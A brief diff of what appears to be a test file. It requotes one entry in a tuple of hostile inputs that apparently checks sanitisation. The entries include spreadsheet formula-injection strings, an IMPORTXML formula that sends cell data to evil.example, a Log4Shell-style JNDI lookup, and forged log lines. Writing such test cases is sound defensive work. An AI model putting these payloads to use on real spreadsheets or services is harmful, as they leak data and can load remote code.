@@ -70,7 +70,7 @@ HOSTILE = (
     "＝1+1",
     "'=1+1",
     '"=1+1",=2',
-    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
     "${jndi:ldap://evil.example/a}",
     '{"level":"ERROR","message":"forged"}',
     "fine\n2026-03-02T09:00:00Z ERROR forged line",
